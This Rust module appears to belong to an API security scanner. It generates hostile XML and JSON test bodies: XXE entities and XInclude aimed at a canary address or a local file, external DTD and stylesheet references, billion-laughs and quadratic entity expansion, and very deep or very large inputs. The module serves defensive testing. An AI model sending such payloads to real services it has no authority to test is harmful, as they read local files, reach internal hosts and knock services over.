//! Hostile bodies, made from the documented one. Pure: addresses and the file come from the run.

use std::fmt::Write as _;

/// What a hostile body refers to.
#[derive(Debug, Clone, Default)]
pub struct HostileTargets {
    /// An address at the canary, for this case alone.
    pub canary: String,
    /// The URL of a file on this machine whose content is known.
    pub file: String,
}

/// A hostile body.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Payload {
    /// An external general entity at the canary.
    GeneralEntity,
    /// An external parameter entity at the canary.
    ParameterEntity,
    /// An external document type definition at the canary.
    ExternalDtd,
    /// An inclusion (`XInclude` 1.0) from the canary.
    XInclude,
    /// A schema to validate against at the canary.
    SchemaLocation,
    /// A stylesheet instruction that points to the canary.
    Stylesheet,
    /// An external general entity that is a file.
    FileEntity,
    /// An inclusion of a file as text.
    FileInclude,
    /// Entities that each hold ten of the one before, nine times.
    Exponential,
    /// One large entity, named many times.
    Quadratic,
    /// Elements in each other, this deep.
    Deep(usize),
    /// This many attributes on the root.
    Attributes(usize),
    /// The documented body with a comment or white space that makes it this long.
    Large(usize),
    /// JSON arrays in each other, this deep.
    DeepJson(usize),
}

/// Copies of the large entity's name in the quadratic body, and the length of that entity: 200 MB when expanded.
const QUADRATIC: (usize, usize) = (2_000, 100_000);

impl Payload {
    /// The body, made from the documented one. An XML body that cannot be understood is sent as it is.
    pub fn body(self, documented: &[u8], places: &HostileTargets) -> Vec<u8> {
        let text = String::from_utf8_lossy(documented);
        let Some(document) = XmlParts::of(&text) else {
            return self.plain(documented);
        };
        let HostileTargets { canary, file } = places;
        match self {
            Self::GeneralEntity => document.with_entities(&format!("<!ENTITY probity SYSTEM \"{canary}\">")),
            Self::FileEntity => document.with_entities(&format!("<!ENTITY probity SYSTEM \"{file}\">")),
            Self::ParameterEntity => {
                document.behind(&document.doctype(&format!("<!ENTITY % probity SYSTEM \"{canary}\"> %probity;")))
            }
            Self::ExternalDtd => document.behind(&format!("<!DOCTYPE {} SYSTEM \"{canary}\">", document.root)),
            Self::XInclude => document.with_child(&include(canary, "")),
            Self::FileInclude => document.with_child(&include(file, " parse=\"text\"")),
            Self::SchemaLocation => document.with_attributes(&format!(
                " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"{canary}\" \
                 xsi:schemaLocation=\"urn:probity {canary}\""
            )),
            Self::Stylesheet => document.behind(&format!("<?xml-stylesheet type=\"text/xsl\" href=\"{canary}\"?>")),
            Self::Exponential => {
                let mut entities = "<!ENTITY probity0 \"lol\">".to_owned();
                for level in 1..=9 {
                    let ten = format!("&probity{};", level - 1).repeat(10);
                    let name = if level == 9 { "probity".to_owned() } else { format!("probity{level}") };
                    let _ = write!(entities, "<!ENTITY {name} \"{ten}\">");
                }
                document.with_entities(&entities)
            }
            Self::Quadratic => {
                let (copies, length) = QUADRATIC;
                let entities = format!("<!ENTITY probity0 \"{}\">", "a".repeat(length));
                document.with_reference(&document.doctype(&entities), &"&probity0;".repeat(copies))
            }
            Self::Deep(depth) => document.with_child(&format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth))),
            Self::Attributes(count) => document.with_attributes(&numbered(count)),
            Self::Large(length) => {
                let missing = length.saturating_sub(documented.len());
                document.behind(&format!("<!--{}-->", "a".repeat(missing.saturating_sub(7))))
            }
            Self::DeepJson(_) => documented.to_vec(),
        }
    }

    /// The body where the documented one is not XML.
    fn plain(self, documented: &[u8]) -> Vec<u8> {
        match self {
            // White space may stand before a JSON text (RFC 8259 section 2).
            Self::Large(length) => {
                [" ".repeat(length.saturating_sub(documented.len())).as_bytes(), documented].concat()
            }
            Self::DeepJson(depth) => format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes(),
            _ => documented.to_vec(),
        }
    }
}

fn numbered(count: usize) -> String {
    (0..count).fold(String::with_capacity(count * 10), |mut text, index| {
        let _ = write!(text, " a{index}=\"\"");
        text
    })
}

fn include(address: &str, how: &str) -> String {
    format!("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{address}\"{how}/>")
}

/// The documented body, taken apart where something is put in. Probity wrote it, without a declaration.
struct XmlParts<'a> {
    root: &'a str,
    /// Up to the end of the root's name.
    start: &'a str,
    /// The attributes of the root up to its `>` or `/>`.
    attributes: &'a str,
    /// Between the root's tags.
    content: &'a str,
}

impl<'a> XmlParts<'a> {
    fn of(text: &'a str) -> Option<Self> {
        let rest = text.strip_prefix('<')?;
        let name = rest.find(|c: char| c.is_whitespace() || matches!(c, '/' | '>'))?;
        let root = rest.get(..name).filter(|name| name.starts_with(char::is_alphabetic))?;
        let open = text.find('>')?;
        let (start, tag) = (&text[..=name], text.get(name + 1..open)?);
        if let Some(attributes) = tag.strip_suffix('/') {
            return Some(Self { root, start, attributes, content: "" });
        }
        let close = text.rfind("</")?;
        Some(Self { root, start, attributes: tag, content: text.get(open + 1..close)? })
    }

    fn doctype(&self, entities: &str) -> String {
        format!("<!DOCTYPE {} [{entities}]>", self.root)
    }

    fn write(&self, before: &str, attributes: &str, content: &str) -> Vec<u8> {
        let Self { root, start, attributes: own, .. } = self;
        format!("<?xml version=\"1.0\"?>{before}{start}{own}{attributes}>{content}</{root}>").into_bytes()
    }

    fn behind(&self, prologue: &str) -> Vec<u8> {
        self.write(prologue, "", self.content)
    }

    fn with_attributes(&self, attributes: &str) -> Vec<u8> {
        self.write("", attributes, self.content)
    }

    fn with_child(&self, child: &str) -> Vec<u8> {
        self.write("", "", &format!("{}{child}", self.content))
    }

    /// Entities, of which `probity` is named in every text.
    fn with_entities(&self, entities: &str) -> Vec<u8> {
        let content = in_texts(self.content, "&probity;");
        let content = if content.contains("&probity;") { content } else { format!("{content}&probity;") };
        self.write(&self.doctype(entities), "", &content)
    }

    /// A document type, and a text at the end of the content.
    fn with_reference(&self, doctype: &str, text: &str) -> Vec<u8> {
        self.write(doctype, "", &format!("{}{text}", self.content))
    }
}

/// `content` with `reference` at the end of each text that stands before an end tag.
fn in_texts(content: &str, reference: &str) -> String {
    let mut out = String::with_capacity(content.len() * 2);
    let mut rest = content;
    while let Some(at) = rest.find("</") {
        let (before, after) = rest.split_at(at);
        out.push_str(before);
        if !before.ends_with('>') {
            out.push_str(reference);
        }
        out.push_str("</");
        rest = &after[2..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const BODY: &[u8] = b"<Order><Id>a1</Id><Note/></Order>";

    fn made(payload: Payload) -> String {
        let places = HostileTargets { canary: "http://127.0.0.1:9/c".to_owned(), file: "file:///f".to_owned() };
        String::from_utf8(payload.body(BODY, &places)).unwrap()
    }

    #[test]
    fn entities_stand_in_every_text() {
        assert_eq!(
            made(Payload::GeneralEntity),
            "<?xml version=\"1.0\"?><!DOCTYPE Order [<!ENTITY probity SYSTEM \"http://127.0.0.1:9/c\">]>\
             <Order><Id>a1&probity;</Id><Note/></Order>"
        );
    }

    #[test]
    fn what_needs_no_document_type_is_well_formed() {
        for payload in [Payload::XInclude, Payload::FileInclude, Payload::SchemaLocation, Payload::Stylesheet] {
            let text = made(payload);
            assert!(roxmltree::Document::parse(&text).is_ok(), "{text}");
        }
        assert!(roxmltree::Document::parse(&made(Payload::Large(5_000))).is_ok());
        assert!(made(Payload::Attributes(3)).contains("<Order a0=\"\" a1=\"\" a2=\"\">"));
    }

    #[test]
    fn an_empty_root_is_opened() {
        let places = HostileTargets::default();
        let text = String::from_utf8(Payload::GeneralEntity.body(b"<Order/>", &places)).unwrap();
        assert!(text.ends_with("<Order>&probity;</Order>"), "{text}");
    }

    #[test]
    fn bodies_have_the_size_they_are_named_for() {
        let places = HostileTargets::default();
        assert!(Payload::Large(100_000).body(BODY, &places).len() >= 100_000);
        assert_eq!(Payload::Large(10).body(b"{}", &places).len(), 10);
        assert_eq!(Payload::DeepJson(3).body(b"{}", &places), b"[[[]]]");
    }
}
